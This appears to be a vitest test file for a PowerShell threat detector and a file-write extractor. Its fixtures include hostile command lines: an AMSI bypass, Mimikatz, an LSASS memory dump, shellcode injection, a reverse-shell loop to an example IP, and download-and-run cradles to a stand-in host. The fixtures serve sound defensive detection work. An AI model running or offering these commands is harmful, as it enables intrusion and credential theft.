import { describe, expect, it } from 'vitest'
import { judgeScript } from '../../../core/correlation/script-signs.ts'
import { writtenFiles } from '../../../core/correlation/script-writes.ts'

describe('judgeScript', () => {
  it.each([
    ["[Ref].Assembly.GetType('System.Management.Automation.A'+'msiUtils')", 'blinds'],
    ['$x=[rEF].ASseMBly."GEtFIE`ld"(\'cachedGroup`PolicySettings\')', 'blinds'],
    ['Invoke-Mimikatz -Command "privilege::debug"', 'tool'],
    ['Payload: CommandInvocation(Write-Output): value=" .#####. mimikatz 2.2.0 (x64)"', 'tool'],
    ['rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 640 C:\\l.bin full', 'dump'],
    [
      '$p=[W]::VirtualAlloc(0,$s.Length,0x3000,0x40);[Runtime.InteropServices.Marshal]::Copy($s,0,$p,$s.Length);[W]::CreateThread(0,0,$p,0,0,0)',
      'injects',
    ],
    [
      '$c=New-Object System.Net.Sockets.TcpClient("203.0.113.9",443);$s=$c.GetStream();while(1){iex $d}',
      'backdoor',
    ],
    ['[Reflection.Assembly]::Load([Convert]::FromBase64String("TVqQ"))', 'in_memory'],
    ['iex (New-Object Net.WebClient).DownloadString("https://cdn.example.net/a")', 'cradle'],
    ['irm https://cdn.example.net/a | iex', 'cradle'],
    ['iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aQ==")))', 'obfuscated'],
    ['[char]105 + [char]101 + [char]120 + [char]32 + [char]40 + [char]105', 'obfuscated'],
    ['("{2}{0}{1}{3}{4}{5}" -f "a","b","c","d","e","f")', 'obfuscated'],
  ])('%s: %s', (script, sign) => {
    expect(judgeScript(script)?.sign).toBe(sign)
  })

  it.each([
    'Get-ChildItem C:\\Windows | Export-Csv C:\\list.csv',
    'Invoke-WebRequest https://intranet.corp.example/a.msi -OutFile C:\\Temp\\a.msi',
    '$key = [Convert]::FromBase64String($settings.Key)',
    '# see the article about detecting credential theft',
    'Add-Type -TypeDefinition $source; [Native]::GetTickCount()',
    'Get-ADUser -Filter * | Measure-Object',
  ])('finds nothing hostile in %s', (script) => {
    expect(judgeScript(script)).toBeUndefined()
  })

  it.each([
    ['blanks', ' '.repeat(200_000)],
    ['characters in a row that lead nowhere', '[char]65 '.repeat(20_000)],
    ['fetches without an end', 'iex '.repeat(50_000)],
    ['half of an injection', 'VirtualAlloc '.repeat(20_000)],
    ['strings', "'a'+".repeat(50_000)],
  ])('reads %s in a moment', (_title, script) => {
    const started = process.cpuUsage()
    judgeScript(script)
    const spent = process.cpuUsage(started)
    expect(spent.user + spent.system).toBeLessThan(1_500_000)
  })
})

describe('writtenFiles', () => {
  it.each([
    ["[IO.File]::WriteAllBytes('C:\\ProgramData\\b.exe', $b)", ['C:\\ProgramData\\b.exe']],
    ["'x' | Out-File -FilePath 'C:\\Users\\a\\run.bat'", ['C:\\Users\\a\\run.bat']],
    ["Set-Content -Path 'C:\\Logs\\a.log' -Value 1", []],
    ['Copy-Item a.dll -Destination C:\\Windows\\Temp\\a.dll', ['C:\\Windows\\Temp\\a.dll']],
    ['Get-Content C:\\x\\a.ps1', []],
  ])('%s', (script, files) => {
    expect(writtenFiles(script)).toEqual(files)
  })
})
